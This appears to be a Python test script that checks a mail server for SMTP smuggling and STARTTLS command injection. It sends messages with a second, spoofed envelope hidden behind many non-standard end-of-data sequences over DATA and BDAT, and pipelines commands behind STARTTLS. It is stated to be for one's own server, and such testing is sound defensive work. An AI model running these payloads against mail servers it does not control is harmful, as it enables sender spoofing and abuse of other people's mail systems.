#!/usr/bin/env python3
"""Tries to smuggle a second message behind an end of data that is none (SMTP smuggling, CVE-2023-51764 to 51766), and
commands across STARTTLS (CVE-2011-0411). Against a server of your own only.

    smuggling.py HOST:PORT RECIPIENT

One line for each try; exit 1 if anything came of one."""

import socket
import ssl
import sys

# What one server takes for the end of data and another one does not.
ENDS = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . CRLF": b"\r.\r\n",
    "CRLF . CR": b"\r\n.\r",
    "CR . LF": b"\r.\n",
    "LF . CR": b"\n.\r",
    "LF LF . CRLF": b"\n\n.\r\n",
    "CR CR LF . CRLF": b"\r\r\n.\r\n",
    "CRLF . CR CRLF": b"\r\n.\r\r\n",
    "CRLF NUL . CRLF": b"\r\n\0.\r\n",
    "CRLF . NUL CRLF": b"\r\n.\0\r\n",
    "CRLF . space CRLF": b"\r\n. \r\n",
    "CRLF .. CRLF": b"\r\n..\r\n",
    "CRLF . VT CRLF": b"\r\n.\x0b\r\n",
    "CRLF NEL . CRLF": b"\r\n\xc2\x85.\r\n",
    "CRLF full stop of full width": "\r\n\uff0e\r\n".encode(),
}


class Session:
    """One session, whose replies are read a line each."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, 30)
        self.file = self.socket.makefile("rb")
        self.expect(b"220")
        self.say(b"EHLO probe.example\r\n")
        self.expect(b"250")

    def say(self, octets):
        self.socket.sendall(octets)

    def reply(self):
        while line := self.file.readline():
            if line[3:4] != b"-":
                return line.strip()
        return b""

    def expect(self, code):
        reply = self.reply()
        if not reply.startswith(code):
            raise SystemExit(f"{code.decode()} was expected: {reply}")

    def replies(self):
        """All that come until the server has ended the session."""
        found = []
        while reply := self.reply():
            found.append(reply)
        return found


def message(recipient, subject):
    return (
        f"From: <probe@probe.example>\r\nTo: <{recipient}>\r\nSubject: {subject}\r\n"
        "Date: Thu, 26 Nov 2026 12:00:00 +0000\r\n\r\n"
    ).encode()


def envelope(recipient):
    return f"MAIL FROM:<smuggled@probe.example>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n".encode()


def data(address, recipient, end):
    """Sends a message with another one behind `end`. Returns how many the server took."""
    session = Session(address)
    for line, code in [(b"MAIL FROM:<probe@probe.example>", b"250"),
                       (b"RCPT TO:<" + recipient.encode() + b">", b"250"), (b"DATA", b"354")]:
        session.say(line + b"\r\n")
        session.expect(code)
    smuggled = envelope(recipient) + message(recipient, "smuggled") + b"It was smuggled.\r\n.\r\n"
    session.say(message(recipient, "probe") + b"Look behind this." + end + smuggled + b"QUIT\r\n")
    # The first is the answer to the dot; each more that takes a message is one too many.
    return [reply for reply in session.replies() if reply.startswith((b"250", b"354"))]


def chunk(address, recipient, end):
    """The same by BDAT, of which the end is a count: the smuggled commands are content."""
    session = Session(address)
    body = message(recipient, "probe") + b"Look behind this." + end + envelope(recipient) + b"x\r\n.\r\n"
    for line in (b"MAIL FROM:<probe@probe.example>", b"RCPT TO:<" + recipient.encode() + b">"):
        session.say(line + b"\r\n")
        session.expect(b"250")
    session.say(b"BDAT %d LAST\r\n" % len(body) + body + b"QUIT\r\n")
    return [reply for reply in session.replies() if reply.startswith((b"250", b"354"))]


def under_tls(session):
    """The session's socket under TLS."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(session.socket)


def starttls(address):
    """Says commands in clear behind STARTTLS, and looks whether they are answered under TLS. That counts only where
    STARTTLS by itself works, so that is tried first."""
    session = Session(address)
    session.say(b"STARTTLS\r\n")
    session.expect(b"220")
    with under_tls(session) as under:
        under.sendall(b"NOOP\r\n")
        if not under.recv(1024).startswith(b"250"):
            raise SystemExit("NOOP is not answered under TLS: STARTTLS cannot be tried")
    session = Session(address)
    session.say(b"STARTTLS\r\nNOOP\r\nRSET\r\n")
    if not (reply := session.reply()).startswith(b"220"):
        return b"", f"refused: {reply}"
    try:
        with under_tls(session) as under:
            under.settimeout(3)
            return under.recv(1024), "dropped"
    except TimeoutError:
        return b"", "dropped"
    except OSError as error:
        return b"", f"the session is ended: {error}"


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    address, recipient, wrong = (host, int(port)), sys.argv[2], 0
    for name, end in ENDS.items():
        for verb, way in (("DATA", data), ("BDAT", chunk)):
            taken = way(address, recipient, end)
            wrong += len(taken) > 1
            said = "SMUGGLED" if len(taken) > 1 else "one" if taken else "none"
            print(f"{verb} {name:<30} {said}")
    answered, said = starttls(address)
    wrong += bool(answered)
    print(f"STARTTLS with commands behind it   {'ANSWERED ' + repr(answered) if answered else said}")
    raise SystemExit(1 if wrong else 0)


main()
